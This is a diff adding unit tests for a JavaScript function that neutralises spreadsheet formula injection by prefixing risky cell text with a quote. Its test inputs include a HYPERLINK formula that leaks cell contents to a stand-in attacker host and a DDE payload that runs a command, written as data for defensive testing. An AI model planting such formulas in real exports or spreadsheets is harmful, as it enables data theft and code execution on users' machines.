@@ -1,0 +1,18 @@
+import { harmlessText } from './harmlessText.js';
+
+it.each([
+  '=HYPERLINK("https://evil.example?"&A1)',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '\n=1+1',
+])('makes text of %j, which a spreadsheet would calculate', (text) => {
+  expect(harmlessText(text)).toBe(`'${text}`);
+});
+
+it.each(['Ada', "O'Neill", '', 'a=b', '+12025550100', '-4', '-4.50'])('leaves %j as it is', (text) => {
+  expect(harmlessText(text)).toBe(text);
+});
